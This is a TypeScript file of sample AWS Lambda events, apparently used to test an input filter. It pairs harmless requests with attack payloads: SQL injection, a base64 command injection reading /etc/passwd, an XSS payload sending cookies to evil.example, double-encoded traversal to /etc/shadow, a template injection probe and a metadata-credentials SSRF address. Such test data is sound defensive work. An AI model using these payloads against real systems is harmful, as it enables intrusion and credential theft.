export type Example = {
  name: string;
  /** What it shows. */
  what: string;
  kind: 'event' | 'text';
  text: string;
};

const json = (event: object) => JSON.stringify(event, null, 2);

const httpApi = (more: object) =>
  json({
    version: '2.0',
    ...more,
    requestContext: {
      domainName: 'shop.execute-api.eu-west-1.amazonaws.com',
      http: { method: 'POST', path: '/orders', sourceIp: '198.51.100.7' },
    },
  });

const sqs = (...bodies: object[]) =>
  json({
    Records: bodies.map((body, index) => ({
      messageId: `message-${index + 1}`,
      eventSource: 'aws:sqs',
      body: JSON.stringify(body),
    })),
  });

/** Events and texts to try, harmless ones among them. */
export const examples: Example[] = [
  {
    name: 'An order',
    what: 'API Gateway, harmless: the function gets it',
    kind: 'event',
    text: httpApi({
      headers: { 'content-type': 'application/json', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64)' },
      body: JSON.stringify({
        customer: "Siobhán O'Hara",
        items: [{ sku: 'A-7', count: 2 }],
        note: 'Ring 1 or 2',
      }),
    }),
  },
  {
    name: 'SQL in a search',
    what: 'API Gateway, a query string with a quote that ends the value',
    kind: 'event',
    text: httpApi({ rawQueryString: 'search=lamp%27%20UNION%20SELECT%20mail%2C%20hash%20FROM%20users--%20' }),
  },
  {
    name: 'A command in base64',
    what: 'Function URL, a form within a body that is base64',
    kind: 'event',
    text: json({
      version: '2.0',
      isBase64Encoded: true,
      body: btoa('host=example.com%3B+cat+%2Fetc%2Fpasswd&count=3'),
      requestContext: {
        domainName: 'x.lambda-url.eu-west-1.on.aws',
        http: { method: 'POST', sourceIp: '203.0.113.20' },
      },
    }),
  },
  {
    name: 'One bad message of three',
    what: 'SQS: two messages go on, one is refused alone',
    kind: 'event',
    text: sqs(
      { comment: 'Works as described.' },
      { comment: '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">' },
      { comment: 'A < B, and B > C.' },
    ),
  },
  {
    name: 'A name that leaves its folder',
    what: "S3, an object's key that was encoded twice",
    kind: 'event',
    text: json({
      Records: [
        {
          eventSource: 'aws:s3',
          eventName: 'ObjectCreated:Put',
          userIdentity: { principalId: 'AWS:uploader' },
          s3: {
            bucket: { name: 'uploads' },
            object: { key: '%252e%252e%252f%252e%252e%252fetc%252fshadow' },
          },
        },
      ],
    }),
  },
  {
    name: 'A template that runs code',
    what: 'Load balancer, an expression where a name is expected',
    kind: 'event',
    text: json({
      requestContext: { elb: { targetGroupArn: 'arn:aws:elasticloadbalancing:eu-west-1:1:targetgroup/a' } },
      httpMethod: 'GET',
      path: '/greeting',
      queryStringParameters: { name: "{{''.__class__.__mro__[1].__subclasses__()}}" },
      headers: { 'x-forwarded-for': '198.51.100.9' },
      body: '',
    }),
  },
  {
    name: 'The way to credentials',
    what: 'Direct invocation, an address that only the function can reach',
    kind: 'event',
    text: json({ picture: { source: 'http://169.254.169.254/latest/meta-data/iam/' } }),
  },
  {
    name: 'One value',
    what: 'A text as a function would receive it',
    kind: 'text',
    text: "lamp' OR 'a'='a",
  },
];
